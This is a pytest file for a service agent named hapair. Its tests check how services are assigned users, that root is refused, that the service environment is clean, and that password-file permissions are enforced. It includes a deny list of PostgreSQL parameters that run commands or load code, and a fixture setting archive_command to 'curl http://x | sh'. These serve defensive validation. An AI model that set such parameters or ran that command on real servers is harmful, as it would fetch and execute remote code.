"""Who a service runs as, what it sees of the node, and what a site file may not ask:
the user a service is resolved to and when root is refused, its clean environment,
PostgreSQL parameters that run commands or load code, and password files that others
could read."""

from __future__ import annotations

import grp
import os
import pwd
from pathlib import Path
from typing import Any

import pytest

from hapair.shared.topology import TopologyError, loads, parse_site
from hapair.workshop_agent.main import parse_args
from hapair.workshop_agent.pg.config import parse_database
from hapair.workshop_agent.pg.errors import SecretError
from hapair.workshop_agent.pg.secrets import read_password
from hapair.workshop_agent.run_as import RunAs, ServiceRefused, ServiceUsers, service_env
from hapair.workshop_agent.settings import AgentSettings

NOBODY = pwd.getpwnam("nobody")
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="the agent's own user must be root")


def site_with(service: dict[str, Any]) -> Any:
    nodes = [{"name": "a", "address": "127.0.0.1"}, {"name": "b", "address": "127.0.0.2"}]
    pair = {"name": "p", "nodes": nodes, "services": [{"name": "s", **service}]}
    return parse_site({"site": "t", "workshops": [{"name": "w", "pairs": [pair]}]}, "t")


def spec(**fields: Any) -> Any:
    return site_with({"command": ["/bin/true"], **fields}).pair("p").services[0]


# --- the site file ----------------------------------------------------------------------


def test_user_and_group_of_a_service_parse() -> None:
    s = spec(user="nobody", group="nogroup")
    assert (s.user, s.group) == ("nobody", "nogroup")
    assert spec(user="65534").user == "65534"
    assert spec().user is None and spec().group is None


@pytest.mark.parametrize("user", ["", "no body", "{node.name}", "x" * 40, "-x"])
def test_a_user_that_is_no_user_name_is_refused_with_its_field(user: str) -> None:
    with pytest.raises(TopologyError) as info:
        site_with({"command": ["/bin/true"], "user": user})
    assert "services[0].user" in str(info.value)


# --- who a service runs as --------------------------------------------------------------


def test_a_named_user_resolves_to_its_ids_and_groups() -> None:
    run = ServiceUsers().resolve(spec(user="nobody"))
    assert (run.uid, run.gid, run.name) == (NOBODY.pw_uid, NOBODY.pw_gid, "nobody")
    assert run.groups == tuple(os.getgrouplist("nobody", NOBODY.pw_gid))


def test_a_group_of_the_service_replaces_the_users_own() -> None:
    group = grp.getgrnam("nogroup")
    users = ServiceUsers(default_user="nobody", default_group="daemon")
    assert users.resolve(spec(group="nogroup")).gid == group.gr_gid
    assert users.resolve(spec()).gid == grp.getgrnam("daemon").gr_gid


def test_the_nodes_default_user_serves_a_service_without_one() -> None:
    assert ServiceUsers(default_user="nobody").resolve(spec()).uid == NOBODY.pw_uid
    assert ServiceUsers(default_user="nobody").resolve(spec(user="daemon")).name == "daemon"


@AS_ROOT
@pytest.mark.parametrize(
    ("fields", "users"),
    [
        ({}, ServiceUsers()),
        ({"user": "root"}, ServiceUsers()),
        ({"user": "0"}, ServiceUsers()),
        ({"user": "nobody", "group": "root"}, ServiceUsers()),
        ({}, ServiceUsers(default_user="root")),
    ],
)
def test_root_is_refused_unless_the_node_allows_it(
    fields: dict[str, Any], users: ServiceUsers
) -> None:
    with pytest.raises(ServiceRefused) as info:
        users.resolve(spec(**fields))
    message = str(info.value)
    assert "service s" in message and "root" in message
    assert "--allow-root-services" in message and "HAPAIR_ALLOW_ROOT_SERVICES=1" in message
    allowed = ServiceUsers(
        default_user=users.default_user, default_group=users.default_group, allow_root=True
    )
    assert allowed.resolve(spec(**fields)) is not None


def test_an_unknown_user_or_group_is_refused_by_name() -> None:
    with pytest.raises(ServiceRefused, match="no user 'no-such-user' on this node"):
        ServiceUsers().resolve(spec(user="no-such-user"))
    with pytest.raises(ServiceRefused, match="no group 'no-such-group' on this node"):
        ServiceUsers().resolve(spec(user="nobody", group="no-such-group"))


# --- the environment --------------------------------------------------------------------


def test_the_environment_is_the_declared_one_and_the_agents_hapair_variables(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SECRET_X", "s")
    monkeypatch.setenv("HAPAIR_ETCD_KEY", "/etc/hapair/agent.key")
    run = RunAs(NOBODY.pw_uid, NOBODY.pw_gid, (NOBODY.pw_gid,), "nobody", NOBODY.pw_dir)
    env = service_env(run, {"HAPAIR_NODE": "a"}, {"MINE": "1", "PATH": "/opt/x/bin"})
    assert env == {
        "PATH": "/opt/x/bin",
        "HOME": NOBODY.pw_dir,
        "USER": "nobody",
        "LOGNAME": "nobody",
        "HAPAIR_NODE": "a",
        "MINE": "1",
    }
    assert (
        service_env(run, {}, {})["PATH"]
        == "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
    )


# --- PostgreSQL parameters --------------------------------------------------------------

DB = {
    "data_dir": "/srv/{pair.name}/pg",
    "auth": {"superuser_password_file": "/etc/s.pw", "replication_password_file": "/etc/r.pw"},
}


@pytest.mark.parametrize(
    "name",
    [
        "archive_command",
        "archive_library",
        "restore_command",
        "archive_cleanup_command",
        "recovery_end_command",
        "ssl_passphrase_command",
        "shared_preload_libraries",
        "session_preload_libraries",
        "local_preload_libraries",
        "dynamic_library_path",
        "jit_provider",
        "include",
        "include_dir",
        "include_if_exists",
        "plperl.on_init",
    ],
)
def test_a_parameter_that_runs_commands_or_loads_code_is_refused_by_name(name: str) -> None:
    with pytest.raises(TopologyError) as info:
        parse_database({**DB, "parameters": {name: "x", "work_mem": "4MB"}})
    message = str(info.value)
    assert "database.parameters" in message and name in message
    assert "work_mem" not in message


def test_the_refusal_names_the_field_in_a_site_file() -> None:
    text = """\
site: t
workshops:
  - name: w
    pairs:
      - name: p
        nodes: [{name: a, address: 127.0.0.1}, {name: b, address: 127.0.0.2}]
        database:
          data_dir: /srv/p/pg
          auth: {superuser_password_file: /etc/s.pw, replication_password_file: /etc/r.pw}
          parameters: {archive_command: "curl http://x | sh"}
"""
    with pytest.raises(TopologyError) as info:
        loads(text, "site.yaml")
    assert "database.parameters" in str(info.value) and "archive_command" in str(info.value)


# --- password files ---------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660])
def test_a_password_file_others_can_read_is_refused_with_the_fix(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "superuser.pw"
    path.write_text("pw\n")
    path.chmod(mode)
    with pytest.raises(SecretError) as info:
        read_password(str(path), "database.auth.superuser_password_file")
    message = str(info.value)
    assert str(path) in message and f"chmod 600 {path}" in message
    assert "database.auth.superuser_password_file" in message
    path.chmod(0o600)
    assert read_password(str(path), "database.auth.superuser_password_file").reveal() == "pw"


@AS_ROOT
def test_a_password_file_of_another_user_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "superuser.pw"
    path.write_text("pw\n")
    path.chmod(0o600)
    os.chown(path, NOBODY.pw_uid, NOBODY.pw_gid)
    with pytest.raises(SecretError, match=f"owned by uid {NOBODY.pw_uid}.*chown"):
        read_password(str(path), "database.auth.superuser_password_file")


def test_an_agent_that_is_not_root_runs_services_as_itself_or_refuses(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: NOBODY.pw_uid)
    monkeypatch.setattr(os, "getegid", lambda: NOBODY.pw_gid)
    itself = ServiceUsers().resolve(spec(user="nobody"))
    assert (itself.uid, itself.groups, itself.guard_arg()) == (NOBODY.pw_uid, None, "-")
    with pytest.raises(
        ServiceRefused, match=r"cannot switch to user 'daemon'.*run the agent as root"
    ):
        ServiceUsers().resolve(spec(user="daemon"))


def test_the_node_settings_come_from_its_flags_or_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HAPAIR_SERVICE_USER", "nobody")
    monkeypatch.setenv("HAPAIR_ALLOW_ROOT_SERVICES", "1")
    settings = AgentSettings(**parse_args(["--node", "a", "--service-group", "nogroup"]))
    assert (settings.service_user, settings.service_group) == ("nobody", "nogroup")
    assert settings.allow_root_services
    monkeypatch.delenv("HAPAIR_ALLOW_ROOT_SERVICES")
    assert not AgentSettings(**parse_args(["--node", "a"])).allow_root_services
    flag = parse_args(["--node", "a", "--allow-root-services"])
    assert AgentSettings(**flag).allow_root_services
